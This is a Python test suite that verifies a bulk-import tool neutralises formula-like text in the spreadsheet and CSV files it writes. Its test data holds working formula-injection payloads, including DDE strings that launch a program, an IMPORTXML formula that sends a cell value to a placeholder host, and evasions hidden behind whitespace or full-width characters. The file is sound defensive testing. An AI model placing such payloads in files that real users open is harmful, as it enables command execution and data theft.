"""Text that looks like a formula stays text in every format that we write, and comes back as it was."""

import csv
import json
import re
import zipfile

import pytest
from openpyxl import load_workbook

from intend_bulk.model.client import field_named
from intend_bulk.sheets.reading import read_sheet
from intend_bulk.sheets.writing import field_column, open_table

FORMULAS = {
    "a link": '=HYPERLINK("http://x","y")',
    "a program": "+cmd|' /C calc'!A0",
    "a program behind a sum": "@SUM(1+1)*cmd",
    "a difference": "-2+3",
    "a sum": "=1+1",
    "behind a tab": "\t=1+1",
    "behind a line end": "\r=1+1",
    "behind a line feed": "\n=1+1",
    "a phone number in wide letters": "\uff0b44 20 7946 0018",
    "with a separator": '=SUM(1,2;3|4\t5)&"x"',
    "behind an apostrophe": "'=1+1",
    "a number with a sign": "-5.50",
    "a phone number": "+44 20 7946 0018",
    "in wide letters": "\uff1d1+1",
    "a function of tables": '=IMPORTXML(CONCAT("http://x/?v=",A2),"//a")',
    "a dynamic link": "=cmd|'/C calc'!A0",
    "in lower case": '=hyperlink("http://x")',
    "after a space": " =1+1",
    "in braces": "{=1+1}",
    "a sign alone": "=",
}
NUMBERS = {"-5.50", "+44 20 7946 0018"}
"""No program can run them, and as numbers they are shown as what they are."""
COLUMNS = [field_column(name, field_named(name)) for name in ("title", "billing_note")]
DELIMITERS = {"comma": ",", "semicolon": ";", "tab": "\t", "bar": "|"}


@pytest.fixture
def written(tmp_path):
    """A file with one client, whose note is the text: written("=1+1", "csv", delimiter=";")."""

    def write(text, ending, *, delimiter=","):
        path = tmp_path / f"clients.{ending}"
        if ending == "jsonl":
            path.write_text(json.dumps({"title": "Acme", "billing_address": {"address_note": text}}) + "\n")
            return path
        with open_table(path, COLUMNS, sheet_name="Clients") as table:
            table.add(["Acme", text])
        if delimiter != ",":
            rows = csv_rows(path)
            with path.open("w", encoding="utf-8", newline="") as file:
                csv.writer(file, delimiter=delimiter).writerows(rows)
        return path

    return write


def csv_rows(path, delimiter=","):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter))


FORMATS = [("xlsx", ","), ("json", ","), ("jsonl", ","), *(("csv", delimiter) for delimiter in DELIMITERS.values())]
each_text = pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)


@each_text
@pytest.mark.parametrize(("ending", "delimiter"), FORMATS, ids=["xlsx", "json", "jsonl", *DELIMITERS])
def test_it_comes_back(written, text, ending, delimiter):
    (row,) = read_sheet(written(text, ending, delimiter=delimiter)).rows
    assert (row.cells["title"], row.cells["billing_note"]) == ("Acme", text)


@each_text
def test_it_is_a_text_in_a_workbook(written, text):
    path = written(text, "xlsx")
    with zipfile.ZipFile(path) as parts:
        (sheet,) = (parts.read(name) for name in parts.namelist() if name.endswith("sheet1.xml"))
    assert not re.search(rb"<f[ />]", sheet)
    assert load_workbook(path)["Clients"]["B2"].data_type == "s"


@each_text
@pytest.mark.parametrize("delimiter", DELIMITERS.values(), ids=DELIMITERS)
def test_no_cell_of_a_csv_begins_like_a_formula(written, text, delimiter):
    """The cells that stand beside it neither, whatever it holds."""
    (_, cells) = csv_rows(written(text, "csv", delimiter=delimiter), delimiter)
    assert len(cells) == 2
    assert cells[1] in NUMBERS or not cells[1].startswith(tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"))
